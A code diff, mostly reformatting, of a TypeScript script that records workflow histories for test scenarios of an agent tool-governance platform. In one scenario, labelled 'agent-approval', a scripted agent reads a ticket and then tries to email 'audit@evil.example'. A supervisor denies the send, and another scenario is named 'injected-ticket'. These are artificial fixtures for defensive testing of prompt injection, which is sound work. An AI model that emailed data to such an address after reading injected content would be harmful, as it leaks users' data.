@@ -42,13 +42,23 @@ async function main(): Promise<void> {
   Runtime.install({ logger: new DefaultLogger('WARN') });
   const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'toolplane-record-'));
   process.env.TOOLPLANE_STORE_DIR = path.join(dir, 'stores');
-  const server = await startDevServer({ port: await freePort(), uiPort: await freePort(), dbFile: path.join(dir, 'temporal.sqlite'), log: () => {} });
+  const server = await startDevServer({
+    port: await freePort(),
+    uiPort: await freePort(),
+    dbFile: path.join(dir, 'temporal.sqlite'),
+    log: () => {},
+  });
   const native = await NativeConnection.connect({ address: server.address });
   const client = new Client({ connection: await Connection.connect({ address: server.address }) });
   const desk = loadManifest(path.resolve(__dirname, '..', '..', 'examples', 'support-desk', 'manifest.yaml')).manifest;
   const flaky = loadManifest(SCENARIO_MANIFEST).manifest;
   const taskQueue = 'record';
-  const worker = await createWorker({ connection: native, taskQueue, manifest: { ...desk, servers: { ...desk.servers, ...flaky.servers }, tools: [...desk.tools, ...flaky.tools] }, tools: [...createTools(), ...scenarioTools(path.join(dir, 'flaky')).tools] });
+  const worker = await createWorker({
+    connection: native,
+    taskQueue,
+    manifest: { ...desk, servers: { ...desk.servers, ...flaky.servers }, tools: [...desk.tools, ...flaky.tools] },
+    tools: [...createTools(), ...scenarioTools(path.join(dir, 'flaky')).tools],
+  });
 
   const only = process.argv.slice(2);
   const recordings: Recording[] = [
@@ -57,7 +67,10 @@ async function main(): Promise<void> {
       manifest: desk,
       calls: [
         { toolId: 'tool://crm/lookup_customer', args: { email: 'alice@example.com' } },
-        { toolId: 'tool://payments/refund', args: { account_id: 'acct_alice_001', amount_cents: 2500, currency: 'EUR', memo: 'duplicate charge' } },
+        {
+          toolId: 'tool://payments/refund',
+          args: { account_id: 'acct_alice_001', amount_cents: 2500, currency: 'EUR', memo: 'duplicate charge' },
+        },
         { toolId: 'tool://tickets/close_ticket', args: { ticket_id: 'T-100', resolution: 'refunded' } },
       ],
     },
@@ -77,7 +90,9 @@ async function main(): Promise<void> {
       calls: [{ toolId: 'tool://flaky/notify', args: { to: 'ops@example.com', text: 'hello' } }],
       during: async (c, workflowId) => {
         const handle = c.workflow.getHandle(workflowId);
-        await handle.executeUpdate(resolveEscalation, { args: [{ effectKey: (await waitForPending(handle)).effectKey, decision: 'retry', by: 'oncall' }] });
+        await handle.executeUpdate(resolveEscalation, {
+          args: [{ effectKey: (await waitForPending(handle)).effectKey, decision: 'retry', by: 'oncall' }],
+        });
       },
     },
     {
@@ -91,28 +106,49 @@ async function main(): Promise<void> {
         { toolId: 'tool://tickets/read_ticket', args: { ticket_id: 'T-101' } },
       ],
     },
-    { name: 'in-doubt-failed', manifest: flaky, calls: [{ toolId: 'tool://flaky/wire', args: { account: 'acct-9', cents: 100 } }] },
+    {
+      name: 'in-doubt-failed',
+      manifest: flaky,
+      calls: [{ toolId: 'tool://flaky/wire', args: { account: 'acct-9', cents: 100 } }],
+    },
     ...['refund', 'injected-ticket'].map((name) => {
-      const script = readScript(path.resolve(__dirname, '..', '..', 'examples', 'support-desk', 'scripts', `${name}.json`));
-      return { name: `agent-${name}`, manifest: desk, agent: { prompt: script.prompt!, model: { endpoint: 'scripted', script: script.turns } } };
+      const script = readScript(
+        path.resolve(__dirname, '..', '..', 'examples', 'support-desk', 'scripts', `${name}.json`),
+      );
+      return {
+        name: `agent-${name}`,
+        manifest: desk,
+        agent: { prompt: script.prompt!, model: { endpoint: 'scripted', script: script.turns } },
+      };
     }),
     {
       name: 'agent-approval',
-      manifest: { ...desk, tools: desk.tools.map((t) => (t.id === 'tool://mail/send_email' ? { ...t, approval: 'on_violation' as const } : t)) },
+      manifest: {
+        ...desk,
+        tools: desk.tools.map((t) =>
+          t.id === 'tool://mail/send_email' ? { ...t, approval: 'on_violation' as const } : t,
+        ),
+      },
       agent: {
         prompt: 'Handle ticket T-101.',
         model: {
           endpoint: 'scripted',
           script: [
             { tool_calls: [{ name: 'tickets__read_ticket', arguments: { ticket_id: 'T-101' } }] },
-            { tool_calls: [{ name: 'mail__send_email', arguments: { to: 'audit@evil.example', subject: 'x', body: 'y' } }] },
+            {
+              tool_calls: [
+                { name: 'mail__send_email', arguments: { to: 'audit@evil.example', subject: 'x', body: 'y' } },
+              ],
+            },
             { final: 'done' },
           ],
         },
       },
       during: async (c, workflowId) => {
         const handle = c.workflow.getHandle(workflowId);
-        await handle.executeUpdate(resolveEscalation, { args: [{ effectKey: (await waitForPending(handle)).effectKey, decision: 'deny', by: 'supervisor' }] });
+        await handle.executeUpdate(resolveEscalation, {
+          args: [{ effectKey: (await waitForPending(handle)).effectKey, decision: 'deny', by: 'supervisor' }],
+        });
       },
     },
   ];
@@ -123,12 +159,33 @@ async function main(): Promise<void> {
       const workflowId = `history-${r.name}-${randomUUID().slice(0, 8)}`;
       const grants = r.grants ?? r.manifest.tools.map((t) => t.id);
       const handle = r.agent
-        ? await client.workflow.start('agentRun', { taskQueue, workflowId, args: [{ ...r.agent, manifest: r.manifest, manifestDigest: manifestDigest(r.manifest), grants, principal: 'agent:recorder' }] })
-        : await client.workflow.start('toolRun', { taskQueue, workflowId, args: [{ manifest: r.manifest, grants, principal: 'agent:recorder', calls: r.calls!, continueOnError: true }] });
+        ? await client.workflow.start('agentRun', {
+            taskQueue,
+            workflowId,
+            args: [
+              {
+                ...r.agent,
+                manifest: r.manifest,
+                manifestDigest: manifestDigest(r.manifest),
+                grants,
+                principal: 'agent:recorder',
+              },
+            ],
+          })
+        : await client.workflow.start('toolRun', {
+            taskQueue,
+            workflowId,
+            args: [
+              { manifest: r.manifest, grants, principal: 'agent:recorder', calls: r.calls!, continueOnError: true },
+            ],
+          });
       await r.during?.(client, workflowId);
       await handle.result();
       const history = await handle.fetchHistory();
-      fs.writeFileSync(path.join(HISTORIES_DIR, `${r.name}.json`), JSON.stringify(JSON.parse(historyToJSON(history)), null, 1) + '\n');
+      fs.writeFileSync(
+        path.join(HISTORIES_DIR, `${r.name}.json`),
+        JSON.stringify(JSON.parse(historyToJSON(history)), null, 1) + '\n',
+      );
       console.log(`recorded ${r.name}: ${history.events?.length} events`);
     }
   });
